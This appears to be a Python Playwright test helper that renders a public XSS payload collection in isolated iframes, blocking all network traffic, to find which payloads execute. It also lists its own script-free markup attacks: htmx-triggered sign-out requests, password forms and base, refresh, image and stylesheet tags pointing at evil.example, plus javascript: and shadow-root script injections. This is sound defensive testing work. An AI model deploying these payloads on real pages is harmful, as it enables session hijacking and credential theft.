"""Attacks: those of a public collection that are live in an unprotected page, and our own that are markup alone."""

import hashlib
import re
from contextlib import suppress

from playwright.sync_api import Browser, Error, Frame, Page, Route

from tests.contracts.matrix import ROOT

COLLECTION = ROOT.parent / "shared" / "corpora" / "xss"
_AT_ONCE = 40
_QUIET = 700  # milliseconds without anything new, after which no more is expected
_LONGEST = 12_000  # milliseconds
HOOKS = """
const where = () => {
    let view = window;
    while (view !== view.parent && !view.name.startsWith("try-")) view = view.parent;
    return view.name;
};
for (const name of ["alert", "confirm", "prompt", "print"])
    window[name] = () => console.log(`fired in ${where()}`);
document.addEventListener("securitypolicyviolation", (event) =>
    console.log(`violated ${event.effectiveDirective} by ${event.blockedURI} ${event.sample}`));
"""
# What a person may do to a page: everything that it waits for, in each of its frames that an attack has not led away.
# Not awaited: an attack may leave its frame where no answer comes from.
PROVOKE = """() => {
    const provoke = (frame) => {
        for (const element of frame.contentDocument?.querySelectorAll("*") ?? []) {
            for (const {name} of element.attributes)
                if (name.startsWith("on")) element.dispatchEvent(new Event(name.slice(2).toLowerCase()));
            if (element.matches("a[href], area[href], [type=submit], [type=image], summary, math *"))
                element.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
            if (element.localName === "iframe") provoke(element);
        }
    };
    for (const frame of document.querySelectorAll("iframe")) setTimeout(provoke, 0, frame);
}"""
# The surroundings in which an attack is tried: between tags, in an attribute's quotes, and in single ones.
_PLACES = ("<body>{}</body>", '<body><input value="{}"></body>', "<body><input value='{}'></body>")
# Attacks that need no script: a strict content policy does not stop them.
MARKUP = [
    '<div hx-get="/sign-out" hx-trigger="load"></div>',
    '<div data-hx-post="/sign-out" data-hx-trigger="load" hx-target="body">x</div>',
    '<button hx-post="/account" hx-vals=\'{"name":"Eve"}\' hx-trigger="revealed">x</button>',
    '<hx-partial hx-target="#toasts" hx-swap="innerHTML">x</hx-partial>',
    '<form action="https://evil.example"><input name="password"><button formaction="//evil.example">x</button></form>',
    '<input form="appearance" name="theme" value="dark" formaction="/sign-out">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">',
    '<link rel="stylesheet" href="https://evil.example/c.css">',
    '<style>@import "https://evil.example/d.css";</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/e.png)" id="toasts" name="viewer">x</p>',
    '<a id="main" name="body" href="https://evil.example" ping="https://evil.example/f" target="_top">x</a>',
    "![x](https://evil.example/g.png)",
    '[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](//evil.example "t" onclick=alert(1))',
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    '<svg><use href="https://evil.example/h.svg#a"></use></svg>',
    "</textarea></title></script></mark></article><script>alert(1)</script>",
    '"><script src="/static/app.js"></script>',
]


def collected() -> list[str]:
    """Return the collection's attacks, each once, in an order that does not follow its files."""
    lines = [
        line for path in sorted(COLLECTION.glob("*.txt")) for line in path.read_text("utf-8").splitlines()
    ]
    known = {
        re.sub(r"\d{4}", "1", line.strip()): spelt(line.strip())
        for line in lines
        if re.search("[<\"']", line)
    }
    return sorted(set(known.values()), key=lambda line: hashlib.sha256(line.encode()).hexdigest())


def spelt(line: str) -> str:
    """Return the attack with the bytes that the collection writes as \\x0B; NUL stands in no text, so it goes."""
    raw = re.sub(rb"\\x([0-9A-Fa-f]{2})", lambda code: bytes.fromhex(code[1].decode()), line.encode())
    return raw.decode("utf-8", "replace").replace("\0", "")


def live(browser: Browser, payloads: list[str]) -> list[str]:
    """Return those that run, or fetch something, in a page that protects itself in no way."""
    alive: set[int] = set()
    for first in range(0, len(payloads), _AT_ONCE):
        alive |= _tried(browser, dict(enumerate(payloads[first : first + _AT_ONCE], first)))
    return [payloads[n] for n in sorted(alive)]


def _tried(browser: Browser, payloads: dict[int, str]) -> set[int]:
    seen: set[int] = set()

    def stop(route: Route) -> None:
        with suppress(Error):  # a new window has no frame yet
            note(_names(route.request.frame))
        route.abort()

    def note(name: str) -> None:
        if found := re.search(r"try-(\d+)", name):
            seen.add(int(found[1]))

    with browser.new_context() as context:
        context.add_init_script(HOOKS)
        context.route("**/*", stop)
        page = context.new_page()
        page.on("console", lambda line: note(line.text))
        page.on("dialog", lambda dialog: dialog.dismiss())
        frames = [
            (f"try-{n}", place.replace("{}", text)) for n, text in payloads.items() for place in _PLACES
        ]
        page.evaluate(_FRAMES, frames)
        _settle(page, seen)
        with suppress(Error):  # an attack may have led the whole page away
            page.evaluate(PROVOKE)
        _settle(page, seen)
    return seen


_FRAMES = """frames => frames.forEach(([name, html]) => {
    const frame = document.createElement("iframe");
    frame.name = name;
    frame.srcdoc = html;
    document.body.append(frame);
})"""


def _names(frame: Frame | None) -> str:
    return "" if frame is None else f"{frame.name} {_names(frame.parent_frame)}"


def _settle(page: Page, seen: set[int]) -> None:
    for _ in range(0, _LONGEST, _QUIET):
        before = len(seen)
        page.wait_for_timeout(_QUIET)
        if len(seen) == before:
            return
